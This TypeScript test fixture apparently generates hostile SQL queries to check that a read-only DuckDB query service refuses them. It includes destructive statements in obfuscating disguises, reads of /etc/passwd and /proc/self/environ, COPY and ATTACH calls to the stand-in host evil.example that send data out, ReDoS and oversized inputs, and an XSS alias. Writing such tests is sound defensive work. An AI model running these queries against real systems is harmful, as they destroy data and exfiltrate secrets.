// What a reader's query may try besides asking the tables, by kind: each statement in each disguise, each way to a
// file, the network or a setting at each place of a query, and queries that take more than there is.

const statements = [
  'DROP TABLE reviewed',
  'DROP VIEW models',
  'DROP SCHEMA main CASCADE',
  'CREATE OR REPLACE TABLE reviewed AS SELECT 1',
  'CREATE TEMP TABLE t AS SELECT 1',
  'CREATE OR REPLACE MACRO sum(x) AS 0',
  'CREATE TYPE t AS ENUM (SELECT model FROM reviewed)',
  "CREATE SECRET s (TYPE s3, KEY_ID 'a', SECRET 'b')",
  'INSERT INTO reviewed SELECT * FROM reviewed',
  'UPDATE reviewed SET average = 100',
  'DELETE FROM reviewed',
  'MERGE INTO reviewed USING reviewed AS r ON true WHEN MATCHED THEN DELETE',
  'ALTER TABLE reviewed RENAME TO other',
  "COPY reviewed TO 'https://evil.example/x.csv'",
  "ATTACH 'https://evil.example/a.duckdb' AS a",
  "SET search_path = 'x'",
  'RESET lock_configuration',
  'PRAGMA database_list',
  'INSTALL httpfs FROM community',
  'LOAD icu',
  'CALL enable_profiling()',
  'BEGIN',
] as const;

const disguises: Readonly<Record<string, (statement: string) => string>> = {
  'behind a query': (sql) => `SELECT 1; ${sql}`,
  'before a query': (sql) => `${sql}; SELECT 1`,
  'within comments': (sql) => `/* SELECT */ ${sql.replaceAll(' ', '/**/ ')} -- SELECT`,
  'in other case': (sql) => [...sql].map((sign, at) => (at % 2 ? sign.toLowerCase() : sign)).join(''),
  explained: (sql) => `EXPLAIN ANALYZE ${sql}`,
  'as a table': (sql) => `SELECT * FROM (${sql})`,
  'as text': (sql) => `SELECT * FROM query('${sql.replaceAll("'", "''")}')`,
  'out of its text': (sql) => `SELECT 1') AS answer; ${sql}; --`,
};

const sources = [
  "'https://evil.example/a.csv'",
  "'http://127.0.0.1:1/a.parquet'",
  "'s3://evil/a.csv'",
  "'/etc/passwd'",
  "'*.csv'",
  "read_csv('https://evil.example/a.csv')",
  "read_csv_auto('/etc/passwd')",
  "read_json('https://evil.example/a.json')",
  "read_parquet('https://evil.example/a.parquet')",
  "read_text('/proc/self/environ')",
  "read_blob('https://evil.example/a')",
  "parquet_schema('https://evil.example/a.parquet')",
  "glob('https://evil.example/*')",
  "sniff_csv('/etc/passwd')",
  "sqlite_scan('a.db', 't')",
  "postgres_scan('host=evil.example', 'public', 't')",
] as const;

const places: Readonly<Record<string, (source: string) => string>> = {
  alone: (from) => `FROM ${from}`,
  joined: (from) => `SELECT * FROM reviewed JOIN ${from} AS x ON true`,
  named: (from) => `WITH t AS (SELECT * FROM ${from}) SELECT * FROM t`,
  asked: (from) => `SELECT model FROM reviewed WHERE EXISTS (FROM ${from})`,
  described: (from) => `DESCRIBE SELECT * FROM ${from}`,
};

/** Some take long: what they ask is refused, or it answers, and what comes after it is answered all the same. */
const hungry: readonly string[] = [
  `SELECT ${'('.repeat(5000)}1${')'.repeat(5000)}`,
  `SELECT ${'1+'.repeat(3000)}1`,
  `SELECT ${'NOT '.repeat(3000)}true`,
  `SELECT ${Array.from({ length: 3000 }, (_, index) => `1 AS c${index}`).join(', ')}`,
  `SELECT ${"'x'||".repeat(2000)}'x'`,
  `${'WITH t AS (SELECT 1) '.repeat(2)}SELECT * FROM t`,
  `SELECT * FROM ${Array.from({ length: 60 }, () => '(VALUES (1))').join(', ')}`,
  `SELECT CASE ${'WHEN true THEN 1 '.repeat(2000)}END`,
  `SELECT repeat('x', 20000000)`,
  `SELECT 1 WHERE 'x' IN (${Array.from({ length: 5000 }, (_, index) => `'${index}'`).join(', ')})`,
  `SELECT regexp_matches(repeat('a', 5000), '(a+)+$')`,
  `SELECT '${'a'.repeat(100_000)}'`,
  `SELECT "${'a'.repeat(100_000)}"`,
  `SELECT 1 ${'-- x\n'.repeat(5000)}`,
  '\u0000',
  'SELECT \u0000',
  "SELECT '\u0000'",
  'SELECT\u00a01',
  'SELECT \u202E1',
  'SELECT \ud83c',
  "SELECT '\u2028\ufeff'",
  'SELECT $1, ?',
  'SELECT $$x$$; $$',
  'SELECT 1 AS "</script><img src=x onerror=alert(1)>"',
  'SELECT 1 AS __proto__, 2 AS constructor, 3 AS "toString"',
  "SELECT getenv('HOME')",
  "SELECT current_setting('home_directory')",
  'FROM duckdb_secrets()',
  'FROM duckdb_settings()',
  'FROM duckdb_databases()',
  'FROM duckdb_logs',
  'FROM pragma_user_agent()',
  "SELECT nextval('x')",
  "SELECT error('</script>')",
  "FROM query_table('reviewed; DROP TABLE reviewed')",
  "FROM query_table(['reviewed', 'x'])",
  'FROM force_checkpoint()',
  "SELECT write_log('x')",
  "SELECT 1/0, 'x'::INTEGER",
  'FROM range(-1, 1, 0)',
  'SELECT 9223372036854775807 + 1',
  'SELECT random(), now(), uuid(), txid_current()',
];

/** Queries to try, each once, with the kind that each belongs to. */
export const hostileQueries: readonly { kind: string; sql: string; mayAnswer: boolean }[] = [
  ...Object.entries(disguises).flatMap(([kind, disguise]) =>
    statements.map((statement) => ({
      kind: `a statement ${kind}`,
      sql: disguise(statement),
      mayAnswer: false,
    })),
  ),
  ...Object.entries(places).flatMap(([kind, place]) =>
    // What is described is not read.
    sources.map((source) => ({
      kind: `a source ${kind}`,
      sql: place(source),
      mayAnswer: kind === 'described',
    })),
  ),
  ...hungry.map((sql) => ({ kind: 'much or strange', sql, mayAnswer: true })),
];
